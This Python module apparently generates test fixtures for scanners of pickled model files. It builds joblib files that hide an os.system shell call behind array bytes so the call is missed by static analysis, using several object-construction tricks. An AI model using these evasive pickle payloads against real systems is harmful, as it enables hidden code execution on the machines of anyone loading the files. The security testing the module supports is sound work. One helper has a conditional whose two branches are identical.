"""joblib reads an array's bytes from the file between two opcodes: a payload behind a hidden read is never an opcode to who does not follow it."""
import io

import joblib
import numpy
from makefixtures.asm import asm

from ..registry import SHELL, Attack, kind

WRAPPER = ('joblib.numpy_pickle', 'NumpyArrayWrapper')
CALL = asm('GLOBAL os system', ('BINUNICODE', SHELL), 'TUPLE1', 'REDUCE')


def state():
    """The state of a NumpyArrayWrapper of one byte array of three elements."""
    return asm('EMPTY_DICT', 'MARK', ('BINUNICODE', 'subclass'), 'GLOBAL numpy ndarray', ('BINUNICODE', 'shape'), 'BININT1 3', 'TUPLE1',
               ('BINUNICODE', 'order'), ('BINUNICODE', 'C'), ('BINUNICODE', 'dtype'),
               'GLOBAL numpy dtype', ('BINUNICODE', 'u1'), 'NEWFALSE', 'NEWTRUE', 'TUPLE3', 'REDUCE',
               ('BINUNICODE', 'allow_mmap'), 'NEWFALSE', 'SETITEMS')


WAYS = {
    'newobj': asm(f'GLOBAL {WRAPPER[0]} {WRAPPER[1]}', 'EMPTY_TUPLE', 'NEWOBJ'),
    'newobj-ex': asm('PROTO 4', f'GLOBAL {WRAPPER[0]} {WRAPPER[1]}', 'EMPTY_TUPLE', 'EMPTY_DICT', 'NEWOBJ_EX'),
    'reconstructor': asm('GLOBAL copy_reg _reconstructor', f'GLOBAL {WRAPPER[0]} {WRAPPER[1]}', 'GLOBAL __builtin__ object', 'NONE', 'TUPLE3', 'REDUCE'),
    'copyreg-newobj': asm('GLOBAL copyreg __newobj__', f'GLOBAL {WRAPPER[0]} {WRAPPER[1]}', 'TUPLE1', 'REDUCE'),
    'copyreg-newobj-ex': asm('GLOBAL copyreg __newobj_ex__', f'GLOBAL {WRAPPER[0]} {WRAPPER[1]}', 'EMPTY_TUPLE', 'EMPTY_DICT', 'TUPLE3', 'REDUCE'),
    'object-new': asm('GLOBAL builtins getattr', 'GLOBAL builtins object', ('BINUNICODE', '__new__'), 'TUPLE2', 'REDUCE',
                      f'GLOBAL {WRAPPER[0]} {WRAPPER[1]}', 'TUPLE1', 'REDUCE'),
    'attrgetter': asm('GLOBAL operator attrgetter', ('BINUNICODE', '__new__'), 'TUPLE1', 'REDUCE', 'GLOBAL builtins object', 'TUPLE1', 'REDUCE',
                      f'GLOBAL {WRAPPER[0]} {WRAPPER[1]}', 'TUPLE1', 'REDUCE'),
    'reduce-no-arguments': asm(f'GLOBAL {WRAPPER[0]} {WRAPPER[1]}', 'NONE', 'EMPTY_TUPLE', ('BINUNICODE', 'C'), 'GLOBAL numpy dtype', ('BINUNICODE', 'u1'), 'NEWFALSE', 'NEWTRUE', 'TUPLE3', 'REDUCE',
                               'MARK', 'POP_MARK', 'TUPLE3', 'POP', 'POP'),
    'memo': asm(f'GLOBAL {WRAPPER[0]} {WRAPPER[1]}', 'EMPTY_TUPLE', 'NEWOBJ', 'MEMOIZE', 'POP', 'BINGET 0'),
}


def read_ahead(build, payload):
    """A file in which the three bytes behind BUILD belong to the array: they are `X` and a length that would swallow the payload."""
    hidden = b'\x01\x02B' if len(payload) < 256 else b'\x01\x02B'
    # Aligned arrays have a length byte and padding first: numpy_array_alignment_bytes is not in this state, so none is read.
    return asm('PROTO 4') + build + state() + asm('BUILD') + hidden + payload


@kind('an array of joblib that is built in an unusual way and hides opcodes behind its bytes')
def hidden_reads():
    for name, build in WAYS.items():
        swallowed = asm('POP') + CALL + asm('STOP')
        # To who does not know of the read, `B` is BINBYTES with a length that goes over the payload.
        for lead in (b'\x01\x02B', b'cab', b'\x8e\x00\x00', b'N0N'):
            yield Attack(f'{name}.joblib', asm('PROTO 4') + build + state() + asm('BUILD') + lead + swallowed, loader='joblib')


@kind('a real array of joblib with a payload behind its bytes')
def real_array():
    buffer = io.BytesIO()
    joblib.dump({'w': numpy.arange(64, dtype='u1')}, buffer)
    data = buffer.getvalue()
    yield Attack('behind.joblib', data[:-1] + CALL + b'.', loader='joblib')
